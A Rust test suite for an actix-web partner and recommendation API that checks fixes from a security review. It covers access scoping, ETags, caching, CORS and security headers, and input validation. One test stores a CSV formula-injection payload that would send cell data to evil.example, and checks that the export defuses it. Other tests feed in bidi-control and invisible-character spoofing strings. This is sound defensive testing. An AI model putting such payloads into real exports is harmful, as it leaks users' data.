//! What a review and a pen-test found (issue 12), one test per point,
//! each named after the rule it holds.

use actix_web::http::header;
use actix_web::http::{Method, StatusCode};
use actix_web::test::TestRequest;
use diesel::connection::SimpleConnection;
use serde_json::{Value, json};

use crate::helpers::{event, liege, recommendation, seeded_app};

fn request(method: Method, uri: &str, body: &Value) -> TestRequest {
    let req = TestRequest::default().method(method).uri(uri);
    if body.is_null() {
        req
    } else {
        req.set_json(body)
    }
}

// 1. Ids are never reused, and a history is one record's life.

#[actix_web::test]
async fn a_deleted_records_id_is_never_given_to_a_new_record_nor_its_history() {
    let app = seeded_app().await;
    let (krakow, brno) = (
        app.new_key("krakow-site", "partner:krakow"),
        app.new_key("brno-site", "partner:brno"),
    );
    let mut secret = recommendation(&[5], &[5]);
    secret["body"] = json!("A's unpublished plan");
    let made = app
        .send_as(
            &krakow,
            request(Method::POST, "/api/v1/recommendations", &secret),
        )
        .await;
    assert_eq!(made.status, 201, "{}", made.body);
    let deleted_id = made.body["id"].as_i64().unwrap();
    let uri = format!("/api/v1/recommendations/{deleted_id}");
    assert_eq!(
        app.send_as(&krakow, request(Method::DELETE, &uri, &Value::Null))
            .await
            .status,
        204
    );
    let mut other = recommendation(&[5], &[6]);
    other["title"] = json!("Brno's own plan");
    let next = app
        .send_as(
            &brno,
            request(Method::POST, "/api/v1/recommendations", &other),
        )
        .await;
    assert_eq!(next.status, 201, "{}", next.body);
    let next_id = next.body["id"].as_i64().unwrap();
    assert!(next_id > deleted_id, "{next_id} reuses {deleted_id}");
    let history = app
        .send_as(
            &brno,
            TestRequest::get().uri(&format!("/api/v1/recommendations/{next_id}/history")),
        )
        .await;
    assert_eq!(history.status, 200, "{}", history.body);
    assert_eq!(history.body["meta"]["total"], 1);
    assert!(
        !history.text.contains("unpublished plan"),
        "{}",
        history.text
    );
    app.send_as(&brno, TestRequest::get().uri(&uri))
        .await
        .assert_problem(404);

    // The same for partners, the other collection a key's scope names.
    let made = app.post("/api/v1/partners", liege()).await;
    let gone = made.body["id"].as_i64().unwrap();
    assert_eq!(
        app.delete(&format!("/api/v1/partners/{gone}")).await.status,
        204
    );
    let mut namur = liege();
    namur["name"] = json!("Namur");
    let next = app.post("/api/v1/partners", namur).await;
    assert!(next.body["id"].as_i64().unwrap() > gone, "{}", next.body);
}

#[actix_web::test]
async fn a_history_starts_at_its_records_own_create_even_over_older_trails_of_its_id() {
    // A database from before ids were kept unique may hold the trail of an
    // earlier record under the same id: the history leaves it out.
    let app = seeded_app().await;
    let made = app.post("/api/v1/partners", liege()).await;
    let id = made.body["id"].as_i64().unwrap();
    let mut conn = city_region_api::db::connect_and_migrate(&app.path).unwrap();
    conn.batch_execute(&format!(
        "INSERT INTO audit_log (at, key_name, collection, record_id, action, before, after) VALUES
         ('2020-01-01 00:00:00', 'old', 'partners', {id}, 'create', NULL, '{{\"name\": \"Earlier record\"}}'),
         ('2020-01-02 00:00:00', 'old', 'partners', {id}, 'delete', '{{\"name\": \"Earlier record\"}}', NULL);
         UPDATE audit_log SET id = id - 1000000 WHERE key_name = 'old';"
    ))
    .unwrap();
    let history = app.get(&format!("/api/v1/partners/{id}/history")).await;
    assert_eq!(history.status, 200, "{}", history.body);
    assert_eq!(history.body["meta"]["total"], 1, "{}", history.body);
    assert!(!history.text.contains("Earlier record"));
    // The admins' whole trail still has it.
    let trail = app
        .get(&format!("/api/v1/audit?collection=partners&record={id}"))
        .await;
    assert_eq!(trail.body["meta"]["total"], 3, "{}", trail.body);
}

// 3. Partner keys and other partners.

#[actix_web::test]
async fn a_partner_key_adds_or_removes_only_itself_among_proposers() {
    let app = seeded_app().await;
    let brno = app.new_key("brno-site", "partner:brno");
    let lille = app.new_key("lille-site", "partner:lille-metropole");
    // Naming another partner without its consent.
    let mut both = recommendation(&[2], &[6, 1]);
    both["title"] = json!("Brno speaks for Lille");
    app.send_as(
        &brno,
        request(Method::POST, "/api/v1/recommendations", &both),
    )
    .await
    .assert_problem(403);
    // An admin makes Brno and Lille co-proposers.
    let made = app.post("/api/v1/recommendations", both).await;
    assert_eq!(made.status, 201, "{}", made.body);
    let uri = made.header("location").unwrap().to_string();
    // Brno may not lock Lille out, nor bring in Kraków.
    for partner_ids in [json!([6]), json!([6, 1, 5]), json!([5, 6])] {
        let patch = json!({ "partner_ids": partner_ids });
        app.send_as(&brno, request(Method::PATCH, &uri, &patch))
            .await
            .assert_problem(403);
    }
    let stored = app.get(&uri).await.body;
    let ids: Vec<i64> = stored["partners"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["id"].as_i64().unwrap())
        .collect();
    assert_eq!(ids, [1, 6]);
    // Lille may withdraw itself, and then writes it no more.
    let withdrawn = app
        .send_as(
            &lille,
            request(Method::PATCH, &uri, &json!({"partner_ids": [6]})),
        )
        .await;
    assert_eq!(withdrawn.status, 200, "{}", withdrawn.body);
    app.send_as(
        &lille,
        request(Method::PATCH, &uri, &json!({"title": "Back in"})),
    )
    .await
    // The draft is no longer in its scope: as if it did not exist.
    .assert_problem(404);
    // Brno's own edits are untouched by the rule.
    let edited = app
        .send_as(
            &brno,
            request(Method::PATCH, &uri, &json!({"title": "Brno alone"})),
        )
        .await;
    assert_eq!(edited.status, 200, "{}", edited.body);
}

#[actix_web::test]
async fn an_events_host_manages_its_participants_and_nobody_else_does() {
    let app = seeded_app().await;
    let brno = app.new_key("brno-site", "partner:brno");
    let krakow = app.new_key("krakow-site", "partner:krakow");
    let made = app
        .send_as(
            &brno,
            request(
                Method::POST,
                "/api/v1/events",
                &event(Some(6), &[5, 1], &[]),
            ),
        )
        .await;
    assert_eq!(made.status, 201, "{}", made.body);
    let uri = made.header("location").unwrap().to_string();
    let changed = app
        .send_as(
            &brno,
            request(Method::PATCH, &uri, &json!({"partner_ids": [8]})),
        )
        .await;
    assert_eq!(changed.status, 200, "{}", changed.body);
    // A participant does not manage the event.
    let mut as_participant = app
        .send_as(
            &brno,
            request(Method::PATCH, &uri, &json!({"partner_ids": [5]})),
        )
        .await;
    assert_eq!(as_participant.status, 200);
    as_participant = app
        .send_as(
            &krakow,
            request(Method::PATCH, &uri, &json!({"partner_ids": [5, 2]})),
        )
        .await;
    as_participant.assert_problem(403);
}

#[actix_web::test]
async fn a_key_whose_partner_was_deleted_no_longer_works() {
    let app = seeded_app().await;
    let made = app.post("/api/v1/partners", liege()).await;
    let slug = made.body["slug"].as_str().unwrap().to_string();
    let key = app.new_key("liege-site", &format!("partner:{slug}"));
    // It reads drafts it proposes while its partner exists.
    let id = made.body["id"].as_i64().unwrap();
    let draft = app
        .send_as(
            &key,
            request(
                Method::POST,
                "/api/v1/recommendations",
                &recommendation(&[1], &[id]),
            ),
        )
        .await;
    assert_eq!(draft.status, 201, "{}", draft.body);
    let draft_uri = draft.header("location").unwrap().to_string();
    assert_eq!(app.delete(&draft_uri).await.status, 204);
    assert_eq!(
        app.delete(&format!("/api/v1/partners/{slug}")).await.status,
        204
    );
    for req in [
        TestRequest::get().uri("/api/v1/recommendations"),
        TestRequest::get().uri("/api/v1/partners"),
        TestRequest::post()
            .uri("/api/v1/events")
            .set_json(event(None, &[], &[])),
    ] {
        let reply = app.send_as(&key, req).await;
        reply.assert_problem(401);
        assert!(reply.header("www-authenticate").is_some());
    }
}

// 4. HEAD is GET without the body.

#[actix_web::test]
async fn head_answers_every_get_route_as_get_does_without_the_body() {
    let app = seeded_app().await;
    let made = app
        .post("/api/v1/recommendations", recommendation(&[1], &[1]))
        .await;
    assert_eq!(made.body["id"], 1, "{}", made.body);
    let spec = app.get("/api-docs/openapi.json").await.body;
    let mut uris = vec!["/api-docs/openapi.json".to_string(), "/docs/".to_string()];
    for (path, item) in spec["paths"].as_object().unwrap() {
        if item.get("get").is_some() {
            let uri = path
                .replace("{id}", "1")
                .replace("{format}", "csv")
                .replace("{collection}", "partners");
            uris.push(uri);
        }
    }
    assert!(uris.len() >= 20, "{uris:?}");
    for uri in &uris {
        let get = app.get(uri).await;
        let head = app
            .send(TestRequest::default().method(Method::HEAD).uri(uri))
            .await;
        assert_eq!(head.status, get.status, "{uri}");
        assert!(get.status.is_success(), "{uri}: {}", get.status);
        assert!(head.text.is_empty(), "{uri}: {}", head.text);
        for name in ["content-type", "etag", "cache-control", "vary", "link"] {
            assert_eq!(head.header(name), get.header(name), "{uri}: {name}");
        }
    }
    // A route that has no GET still says so, HEAD included.
    let wrong = app
        .send(
            TestRequest::default()
                .method(Method::PUT)
                .uri("/api/v1/partners"),
        )
        .await;
    assert_eq!(wrong.header("allow"), Some("GET, HEAD, POST"));
}

// 5. List pages have ETags; a compressed body has its own.

#[actix_web::test]
async fn list_pages_carry_an_etag_per_encoding_and_answer_if_none_match_with_304() {
    let app = seeded_app().await;
    let uri = "/api/v1/partners?limit=3&sort=name";
    let plain = app.get(uri).await;
    let tag = plain
        .header("etag")
        .expect("a list page has an ETag")
        .to_string();
    let gzip = app
        .send(
            TestRequest::get()
                .uri(uri)
                .insert_header((header::ACCEPT_ENCODING, "gzip")),
        )
        .await;
    assert_eq!(gzip.header("content-encoding"), Some("gzip"));
    let gzip_tag = gzip.header("etag").unwrap().to_string();
    assert_ne!(gzip_tag, tag, "gzip and identity bytes differ");
    assert_eq!(gzip_tag, format!("{}-gzip\"", tag.trim_end_matches('"')));
    let revalidated = app
        .send(
            TestRequest::get()
                .uri(uri)
                .insert_header((header::IF_NONE_MATCH, tag.clone())),
        )
        .await;
    assert_eq!(revalidated.status, StatusCode::NOT_MODIFIED);
    assert!(revalidated.text.is_empty());
    assert_eq!(revalidated.header("etag"), Some(tag.as_str()));
    // The identity tag does not revalidate the gzip representation.
    let other = app
        .send(
            TestRequest::get()
                .uri(uri)
                .insert_header((header::IF_NONE_MATCH, tag.clone()))
                .insert_header((header::ACCEPT_ENCODING, "gzip")),
        )
        .await;
    assert_eq!(other.status, 200);
    let gzip_again = app
        .send(
            TestRequest::get()
                .uri(uri)
                .insert_header((header::IF_NONE_MATCH, gzip_tag.clone()))
                .insert_header((header::ACCEPT_ENCODING, "gzip")),
        )
        .await;
    assert_eq!(gzip_again.status, StatusCode::NOT_MODIFIED);
    // Another page, another tag; a write changes the page's tag.
    assert_ne!(
        app.get("/api/v1/partners?limit=4").await.header("etag"),
        Some(tag.as_str())
    );
    app.patch("/api/v1/partners/brno", json!({"population": 400000}))
        .await;
    let after = app
        .send(
            TestRequest::get()
                .uri(uri)
                .insert_header((header::IF_NONE_MATCH, tag.clone())),
        )
        .await;
    assert_eq!(after.status, 200);
    // If-Match takes the gzip tag of the current version.
    let item = app
        .send(
            TestRequest::get()
                .uri("/api/v1/partners/brno")
                .insert_header((header::ACCEPT_ENCODING, "gzip")),
        )
        .await;
    let item_gzip_tag = item.header("etag").unwrap().to_string();
    assert!(item_gzip_tag.ends_with("-gzip\""), "{item_gzip_tag}");
    let written = app
        .send(
            TestRequest::patch()
                .uri("/api/v1/partners/brno")
                .insert_header((header::IF_MATCH, item_gzip_tag.clone()))
                .set_json(json!({"population": 410000})),
        )
        .await;
    assert_eq!(written.status, 200, "{}", written.body);
    let stale = app
        .send(
            TestRequest::patch()
                .uri("/api/v1/partners/brno")
                .insert_header((header::IF_MATCH, item_gzip_tag))
                .set_json(json!({"population": 420000})),
        )
        .await;
    stale.assert_problem(412);
}

// 6. Shared caches keep anonymous answers only.

#[actix_web::test]
async fn shared_caches_may_keep_anonymous_answers_and_never_keyed_ones() {
    let app = seeded_app().await;
    for uri in [
        "/api/v1/partners",
        "/api/v1/partners/brno",
        "/api/v1/recommendations",
    ] {
        let anonymous = app.send_anonymous(TestRequest::get().uri(uri)).await;
        assert_eq!(
            anonymous.header("cache-control"),
            Some("public, no-cache"),
            "{uri}"
        );
        let keyed = app.get(uri).await;
        assert_eq!(
            keyed.header("cache-control"),
            Some("private, no-cache"),
            "{uri}"
        );
        let vary: Vec<String> = keyed
            .headers
            .get_all(header::VARY)
            .map(|v| v.to_str().unwrap().to_ascii_lowercase())
            .collect();
        for name in ["accept", "accept-encoding", "authorization"] {
            assert!(
                vary.iter().any(|v| v.split(", ").any(|n| n == name)),
                "{uri}: {vary:?}"
            );
        }
    }
    let written = app.post("/api/v1/partners", liege()).await;
    assert_eq!(written.header("cache-control"), Some("no-store"));
}

// 7. CORS open by default; a refused preflight is a problem+json 403.

#[actix_web::test]
async fn any_origin_may_call_by_default_and_a_refused_preflight_is_a_problem_403() {
    use city_region_api::app::AppConfig;
    let open = crate::helpers::app_with(true, AppConfig::default()).await;
    let page = open
        .send_anonymous(
            TestRequest::get()
                .uri("/api/v1/partners")
                .insert_header((header::ORIGIN, "http://localhost:5173")),
        )
        .await;
    assert_eq!(page.status, 200);
    assert_eq!(page.header("access-control-allow-origin"), Some("*"));
    let preflight = open
        .send_anonymous(
            TestRequest::default()
                .method(Method::OPTIONS)
                .uri("/api/v1/partners/brno")
                .insert_header((header::ORIGIN, "http://localhost:5173"))
                .insert_header((header::ACCESS_CONTROL_REQUEST_METHOD, "PATCH"))
                .insert_header((
                    header::ACCESS_CONTROL_REQUEST_HEADERS,
                    "authorization, content-type, if-match",
                )),
        )
        .await;
    assert!(preflight.status.is_success(), "{}", preflight.status);
    let narrowed = crate::helpers::app_with(
        true,
        AppConfig::new(
            vec!["https://partner.example".into()],
            std::num::NonZeroU32::MAX,
        ),
    )
    .await;
    let refused = narrowed
        .send_anonymous(
            TestRequest::default()
                .method(Method::OPTIONS)
                .uri("/api/v1/partners/brno")
                .insert_header((header::ORIGIN, "http://localhost:5173"))
                .insert_header((header::ACCESS_CONTROL_REQUEST_METHOD, "PATCH")),
        )
        .await;
    refused.assert_problem(403);
    assert!(
        refused.body["detail"]
            .as_str()
            .unwrap()
            .contains("http://localhost:5173")
    );
    assert!(refused.header("x-request-id").is_some());
    assert!(refused.header("access-control-allow-origin").is_none());
}

// 8. The HTTP layer's refusals, where the app can answer them.

#[actix_web::test]
async fn a_request_target_over_8_kib_is_a_problem_414_with_a_request_id() {
    let app = seeded_app().await;
    let long = format!("/api/v1/partners?q={}", "a".repeat(9000));
    let reply = app.get(&long).await;
    reply.assert_problem(414);
    assert!(reply.header("x-request-id").is_some());
    assert!(
        !reply.text.contains(&"a".repeat(9000)),
        "the answer does not echo it"
    );
    let fits = format!("/api/v1/partners?q={}", "a".repeat(8000));
    assert_eq!(app.get(&fits).await.status, 200);
}

// 10. Security headers.

#[actix_web::test]
async fn every_response_is_nosniff_and_pages_carry_a_csp_and_refuse_framing() {
    let app = seeded_app().await;
    for uri in [
        "/api/v1/partners",
        "/api/v1/nothing",
        "/health",
        "/api/v1/partners.csv",
    ] {
        let reply = app.get(uri).await;
        assert_eq!(
            reply.header("x-content-type-options"),
            Some("nosniff"),
            "{uri}"
        );
        assert!(reply.header("content-security-policy").is_none(), "{uri}");
    }
    let page = app.get("/docs/").await;
    assert_eq!(page.status, 200);
    assert!(
        page.header("content-type")
            .unwrap()
            .starts_with("text/html")
    );
    let policy = page.header("content-security-policy").unwrap();
    for directive in [
        "default-src 'self'",
        "script-src 'self'",
        "frame-ancestors 'none'",
    ] {
        assert!(policy.contains(directive), "{policy}");
    }
    assert_eq!(page.header("x-frame-options"), Some("DENY"));
    assert_eq!(page.header("x-content-type-options"), Some("nosniff"));
}

// 11. Errors quote what was sent; only the canonical id names a record.

#[actix_web::test]
async fn not_found_quotes_what_was_sent_and_only_canonical_ids_name_records() {
    let app = seeded_app().await;
    for sent in ["2147483648", "99999999999999999999", "00001", "01"] {
        let reply = app.get(&format!("/api/v1/partners/{sent}")).await;
        reply.assert_problem(404);
        let detail = reply.body["detail"].as_str().unwrap();
        assert!(detail.contains(&format!("'{sent}'")), "{detail}");
        assert!(!detail.contains("'-1'"), "{detail}");
    }
    assert_eq!(
        app.get("/api/v1/partners/1").await.body["slug"],
        "lille-metropole"
    );
    let filtered = app
        .get("/api/v1/recommendations?partner=999999999999999999999")
        .await;
    assert_eq!(filtered.status.as_u16() / 100, 4, "{}", filtered.body);
    let message = filtered.body["errors"][0]["message"]
        .as_str()
        .unwrap_or_default();
    let shown = format!("{} {message}", filtered.body["detail"]);
    assert!(shown.contains("999999999999999999999"), "{shown}");
    assert!(!shown.contains("-1"), "{shown}");
}

// 12. Names that show nothing, or reorder what follows.

#[actix_web::test]
async fn names_of_invisible_characters_or_with_bidi_controls_are_refused() {
    let app = seeded_app().await;
    let before = app.snapshot().await;
    for (field, value) in [
        ("name", "\u{200b}\u{200b}"),
        ("name", "\u{202e}elliL"),
        ("name", "Lille\u{2066}"),
        ("city", "\u{feff}\u{2060}"),
        ("region", "\u{ad}"),
        ("name", "\u{301}\u{301}"),
        ("city", "\u{e0041}\u{e0042}"),
        ("name", "\u{2800}"),
    ] {
        let mut body = liege();
        body[field] = json!(value);
        let reply = app.post("/api/v1/partners", body).await;
        reply.assert_problem(422);
        assert_eq!(reply.fields_at_fault(), [field], "{value:?}");
    }
    let mut titled = recommendation(&[1], &[1]);
    titled["title"] = json!("\u{200d}");
    let reply = app.post("/api/v1/recommendations", titled).await;
    assert_eq!(reply.fields_at_fault(), ["title"]);
    assert_eq!(app.snapshot().await, before);
    // Right-to-left text itself is fine.
    let mut arabic = liege();
    arabic["name"] = json!("\u{0644}\u{064a}\u{062c}");
    assert_eq!(app.post("/api/v1/partners", arabic).await.status, 201);
}

// 13. CSV cells a spreadsheet would run.

#[actix_web::test]
async fn csv_cells_that_a_spreadsheet_would_run_are_defused_and_json_stays_exact() {
    let app = seeded_app().await;
    let brno = app.new_key("brno-site", "partner:brno");
    let formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\")";
    let written = app
        .send_as(
            &brno,
            request(
                Method::PATCH,
                "/api/v1/partners/brno",
                &json!({"description": formula, "region": "-2+3"}),
            ),
        )
        .await;
    assert_eq!(written.status, 200, "{}", written.body);
    let csv = app.get("/api/v1/partners.csv?q=brno").await.text;
    assert!(
        csv.contains("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"x\"\")\""),
        "{csv}"
    );
    assert!(csv.contains(",'-2+3,"), "{csv}");
    assert!(!csv.contains(",=HYPERLINK"), "{csv}");
    // Numbers stay numbers, signs and all.
    let mut west = liege();
    west["name"] = json!("Brest");
    west["longitude"] = json!(-4.4861);
    app.post("/api/v1/partners", west).await;
    assert!(
        app.get("/api/v1/partners.csv?q=brest")
            .await
            .text
            .contains(",-4.4861,")
    );
    let json = app.get("/api/v1/partners/brno").await.body;
    assert_eq!(json["description"], formula);
    let ndjson = app
        .send(
            TestRequest::get()
                .uri("/api/v1/partners?q=brno")
                .insert_header((header::ACCEPT, "application/x-ndjson")),
        )
        .await
        .text;
    let line: Value = serde_json::from_str(ndjson.lines().next().unwrap()).unwrap();
    assert_eq!(line["description"], formula);
}

// 14. A database that takes no writes.

#[actix_web::test]
async fn a_full_disk_stops_writes_not_reads_and_ready_says_why_until_writes_go_through() {
    let app = seeded_app().await;
    app.db
        .health()
        .set_retry(std::time::Duration::from_millis(300));
    assert_eq!(app.get("/ready").await.status, 200);
    // The file may not grow past its size now: SQLite's own "disk full".
    app.db
        .write(|c| Ok(c.batch_execute("PRAGMA max_page_count = 1")?))
        .await
        .unwrap();
    let mut refused = None;
    for n in 0..40 {
        let mut big = liege();
        big["name"] = json!(format!("Filler {n}"));
        big["description"] = json!("x".repeat(19_000));
        let reply = app.post("/api/v1/partners", big).await;
        if reply.status != 201 {
            refused = Some(reply);
            break;
        }
    }
    let refused = refused.expect("the file filled up");
    refused.assert_problem(503);
    assert!(refused.header("retry-after").is_some());
    assert!(
        refused.body["detail"].as_str().unwrap().contains("full"),
        "{}",
        refused.body
    );
    let ready = app.get("/ready").await;
    ready.assert_problem(503);
    assert!(ready.body["detail"].as_str().unwrap().contains("full"));
    // Reads go on; writes are refused at once meanwhile.
    assert_eq!(app.get("/api/v1/partners/brno").await.status, 200);
    app.patch("/api/v1/partners/brno", json!({"population": 1}))
        .await
        .assert_problem(503);
    // Room again: after the wait, /ready's probe finds the writes go through.
    let db = app.db.clone();
    db.health().set_retry(std::time::Duration::from_millis(1));
    // The limit is lifted on the writer itself, past the refusal.
    let mut lifted = false;
    for _ in 0..50 {
        actix_web::rt::time::sleep(std::time::Duration::from_millis(20)).await;
        if db
            .write(|c| Ok(c.batch_execute("PRAGMA max_page_count = 1073741823")?))
            .await
            .is_ok()
        {
            lifted = true;
            break;
        }
    }
    assert!(lifted);
    // /ready's own probe: refused, the wait over, the probe's write goes
    // through and writes are taken again without any client's write.
    db.health().refuse("database or disk is full");
    actix_web::rt::time::sleep(std::time::Duration::from_millis(20)).await;
    assert_eq!(app.get("/ready").await.status, 200);
    assert!(db.health().reason().is_none());
    let mut again = liege();
    again["name"] = json!("Written after the disk was freed");
    assert_eq!(app.post("/api/v1/partners", again).await.status, 201);
}

#[actix_web::test]
async fn a_database_opened_read_only_serves_reads_and_refuses_writes_with_503() {
    use actix_web::test as actix_test;
    use city_region_api::app::{AppConfig, build_app};
    let (_dir, path, key) = crate::helpers::database(true);
    // SQLite's own read-only open: the process cannot write the file.
    let read_only = format!("file:{path}?mode=ro");
    let db = city_region_api::db::Db::open(&read_only, 1).expect("starts read-only");
    assert!(db.health().reason().is_some());
    let app = actix_test::init_service(build_app(db, AppConfig::default())).await;
    let get = |uri: &str| actix_test::TestRequest::get().uri(uri).to_request();
    let partners = actix_test::call_service(&app, get("/api/v1/partners")).await;
    assert_eq!(partners.status(), 200);
    let ready = actix_test::call_service(&app, get("/ready")).await;
    assert_eq!(ready.status(), 503);
    let write = actix_test::call_service(
        &app,
        actix_test::TestRequest::post()
            .uri("/api/v1/partners")
            .insert_header((header::AUTHORIZATION, format!("Bearer {key}")))
            .set_json(liege())
            .to_request(),
    )
    .await;
    assert_eq!(write.status(), 503);
    assert!(write.headers().contains_key(header::RETRY_AFTER));
    assert_eq!(
        write.headers().get(header::CONTENT_TYPE).unwrap(),
        "application/problem+json"
    );
}

#[actix_web::test]
async fn another_partners_draft_is_a_404_on_every_path_never_a_403() {
    let app = seeded_app().await;
    let (krakow, brno) = (
        app.new_key("krakow-site", "partner:krakow"),
        app.new_key("brno-site", "partner:brno"),
    );
    let mut draft = recommendation(&[5], &[5]);
    draft["slug"] = json!("krakow-secret");
    let made = app
        .send_as(
            &krakow,
            request(Method::POST, "/api/v1/recommendations", &draft),
        )
        .await;
    assert_eq!(made.status, 201, "{}", made.body);
    let uri = "/api/v1/recommendations/krakow-secret";
    let patch = json!({"title": "Peek"});
    let mut whole = recommendation(&[5], &[6]);
    whole["title"] = json!("Peek");
    for (method, path, body) in [
        (Method::GET, uri.to_string(), Value::Null),
        (Method::GET, format!("{uri}/history"), Value::Null),
        (Method::PATCH, uri.to_string(), patch),
        (Method::PUT, uri.to_string(), whole),
        (Method::DELETE, uri.to_string(), Value::Null),
    ] {
        let reply = app
            .send_as(&brno, request(method.clone(), &path, &body))
            .await;
        reply.assert_problem(404);
        assert!(
            reply.body["detail"]
                .as_str()
                .unwrap()
                .contains("'krakow-secret'")
        );
    }
    // Once published, it is there for all: writing it is then a 403.
    let published = app
        .send_as(
            &krakow,
            request(Method::PATCH, uri, &json!({"status": "published"})),
        )
        .await;
    assert_eq!(published.status, 200, "{}", published.body);
    app.send_as(
        &brno,
        request(Method::PATCH, uri, &json!({"title": "Peek"})),
    )
    .await
    .assert_problem(403);
}

#[actix_web::test]
async fn every_compressed_representation_has_its_own_etag_writes_included() {
    let app = seeded_app().await;
    let plain = app.get("/api/v1/partners/brno").await;
    let tag = plain
        .header("etag")
        .unwrap()
        .trim_end_matches('"')
        .to_string();
    for encoding in ["gzip", "br", "deflate"] {
        let reply = app
            .send(
                TestRequest::get()
                    .uri("/api/v1/partners/brno")
                    .insert_header((header::ACCEPT_ENCODING, encoding)),
            )
            .await;
        assert_eq!(reply.header("content-encoding"), Some(encoding));
        assert_eq!(
            reply.header("etag"),
            Some(format!("{tag}-{encoding}\"").as_str())
        );
    }
    let written = app
        .send(
            TestRequest::patch()
                .uri("/api/v1/partners/brno")
                .insert_header((header::ACCEPT_ENCODING, "gzip"))
                .set_json(json!({"population": 390000})),
        )
        .await;
    assert_eq!(written.header("content-encoding"), Some("gzip"));
    let written_tag = written.header("etag").unwrap().to_string();
    let read = app
        .send(
            TestRequest::get()
                .uri("/api/v1/partners/brno")
                .insert_header((header::ACCEPT_ENCODING, "gzip")),
        )
        .await;
    assert_eq!(read.header("etag"), Some(written_tag.as_str()));
}

#[actix_web::test]
async fn refusals_of_the_http_layers_the_app_runs_are_problems_with_cors_headers() {
    use city_region_api::app::AppConfig;
    let app = crate::helpers::app_with(true, AppConfig::default()).await;
    let refused = app
        .send_anonymous(
            TestRequest::get()
                .uri("/api/v1/partners/1")
                .insert_header((header::ACCEPT_ENCODING, "identity;q=0")),
        )
        .await;
    refused.assert_problem(406);
    assert!(refused.header("x-request-id").is_some());
    let long = app
        .send_anonymous(
            TestRequest::get()
                .uri(&format!("/api/v1/partners?q={}", "a".repeat(9000)))
                .insert_header((header::ORIGIN, "http://localhost:5173")),
        )
        .await;
    long.assert_problem(414);
    assert_eq!(long.header("access-control-allow-origin"), Some("*"));
}
